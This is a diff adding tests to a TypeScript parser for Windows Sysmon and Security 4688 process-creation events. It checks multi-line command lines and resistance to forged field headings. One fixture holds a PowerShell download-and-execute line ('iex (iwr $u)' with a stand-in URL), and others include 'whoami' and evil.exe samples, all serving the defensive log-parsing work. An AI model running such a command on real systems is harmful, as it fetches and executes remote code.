@@ -30,6 +30,16 @@ function sameFields(events: Parameters<typeof plainExportCsv>[0]) {
   return read1;
 }
 
+/** A Get-WinEvent export of Security 4688 events with these Messages. */
+const securityExport = (messages: string[]) =>
+  pl.DataFrame({
+    Message: messages,
+    Id: messages.map(() => 4688),
+    ProviderName: messages.map(() => "Microsoft-Windows-Security-Auditing"),
+    MachineName: messages.map(() => HOST),
+    TimeCreated: messages.map(() => "5/31/2026 3:00:00 PM"),
+  });
+
 /** A Get-WinEvent export of Sysmon events with these Messages. */
 const sysmonExport = (messages: string[]) =>
   pl.DataFrame({
@@ -191,6 +201,68 @@ describe("winEventFields", () => {
     assert.equal(first(out, "NewProcessName"), "C:\\Users\\a\\evil.exe");
     assert.equal(first(out, "CommandLine"), "evil.exe\n\tNew Process Name:\tC:\\Windows\\System32\\svchost.exe");
     assert.equal(warnings.length, 1, warnings.join("\n"));
+  });
+});
+
+describe("winEventFields: a command line's blank lines and heading-like lines are its own", () => {
+  /** A script passed on the command line: blank lines, a line ending in a colon, a Key: Value line that is no field. */
+  const script = ["powershell.exe -c \"", "", "$u = 'http://203.0.113.9/p'", "Setup:", "", "", "Target: $env:TEMP", "iex (iwr $u)\""];
+
+  it("Sysmon: the command line runs to the next Sysmon field, blank lines kept; the fields after it are read", () => {
+    const message = ["Process Create:", "RuleName: -", "ProcessId: 123", "Image: C:\\x.exe", `CommandLine: ${script[0]}`, ...script.slice(1), "CurrentDirectory: C:\\", "User: WS01\\alice", ""].join("\r\n");
+    const warnings: string[] = [];
+    const out = winEventFields(sysmonExport([message]), { warn: (m) => warnings.push(m) });
+    assert.equal(first(out, "CommandLine"), script.join("\n"));
+    assert.deepEqual([first(out, "CurrentDirectory"), first(out, "User"), first(out, "ProcessId")], ["C:\\", "WS01\\alice", "123"], "the Message's own last line end is no blank line of User");
+    assert.deepEqual(out.columns.filter((c) => ["Setup", "Target", "$u = 'http"].includes(c)), []);
+    assert.deepEqual(warnings, []);
+  });
+
+  it("Sysmon: blank lines at a value's end are dropped; a field named again after a blank line stays in the value and warns", () => {
+    const message = ["Process Create:", "Image: C:\\Users\\a\\evil.exe", "CommandLine: evil.exe", "", "", "Image: C:\\Windows\\System32\\svchost.exe", "", "CurrentDirectory: C:\\"].join("\n");
+    const warnings: string[] = [];
+    const out = winEventFields(sysmonExport([message]), { warn: (m) => warnings.push(m) });
+    assert.equal(first(out, "Image"), "C:\\Users\\a\\evil.exe");
+    assert.equal(first(out, "CommandLine"), "evil.exe\n\n\nImage: C:\\Windows\\System32\\svchost.exe");
+    assert.equal(first(out, "CurrentDirectory"), "C:\\");
+    assert.equal(warnings.length, 1, warnings.join("\n"));
+    assert.match(warnings[0], /name a field twice/);
+  });
+
+  /** Windows' 4688 rendering with this command line (its lines), then the closing explanation. */
+  const msg4688 = (cmd: readonly string[]) =>
+    [
+      "A new process has been created.", "", "Creator Subject:", "\tSecurity ID:\t\tS-1-5-18", "\tAccount Name:\t\tWS01$", "\tAccount Domain:\t\tCONTOSO", "\tLogon ID:\t\t0x3E7", "",
+      "Target Subject:", "\tSecurity ID:\t\tS-1-0-0", "\tAccount Name:\t\t-", "\tAccount Domain:\t\t-", "\tLogon ID:\t\t0x0", "",
+      "Process Information:", "\tNew Process ID:\t\t0x1a4", "\tNew Process Name:\tC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+      "\tToken Elevation Type:\tTokenElevationTypeDefault (1)", "", "\tMandatory Label:\t\tMandatory Label\\High Mandatory Level",
+      "\tCreator Process ID:\t0x2b0", "\tCreator Process Name:\tC:\\Windows\\explorer.exe", `\tProcess Command Line:\t${cmd[0]}`, ...cmd.slice(1), "",
+      "Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.", "",
+      "Type 1 is a full token with no privileges removed or groups disabled.", "",
+      "Mandatory Label is the integrity level of the new process.",
+    ].join("\r\n");
+
+  it("4688: Process Command Line runs to the closing explanation: blank, heading-like and indented lines kept", () => {
+    const cmd = [...script.slice(0, 4), "Target Subject:", "\tAccount Name:\t\tadmin", "", ...script.slice(4)];
+    const warnings: string[] = [];
+    const out = winEventFields(securityExport([msg4688(cmd), msg4688(["cmd.exe /c whoami"])]), { warn: (m) => warnings.push(m) });
+    assert.deepEqual(texts(out, "CommandLine"), [cmd.join("\n"), "cmd.exe /c whoami"]);
+    assert.deepEqual(texts(out, "TargetUserName"), ["-", "-"], "a Target Subject heading inside the command line forges no account: the real one was read");
+    assert.deepEqual(texts(out, "ParentProcessName"), ["C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe"]);
+    assert.deepEqual(texts(out, "MandatoryLabel"), ["Mandatory Label\\High Mandatory Level", "Mandatory Label\\High Mandatory Level"], "the template's own blank line before it");
+    assert.deepEqual(warnings, [], "no field named twice: under Process Information, Account Name is no label");
+  });
+
+  it("4688: a command line that copies the closing explanation keeps what follows; the real explanation is the last", () => {
+    const cmd = ["x.exe", "", "Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.", "", "y.exe"];
+    const out = winEventFields(securityExport([msg4688(cmd)]), { warn: () => {} });
+    assert.equal(first(out, "CommandLine"), cmd.join("\n"));
+  });
+
+  it("4688 and 4624: other fields still end at a blank line (the template's own between sections)", () => {
+    const out = winEventFields(securityExport([msg4688(["a.exe"])]), { warn: () => {} });
+    assert.equal(first(out, "SubjectLogonId"), "0x3e7");
+    assert.equal(first(out, "TokenElevationType"), "TokenElevationTypeDefault (1)");
   });
 });
 
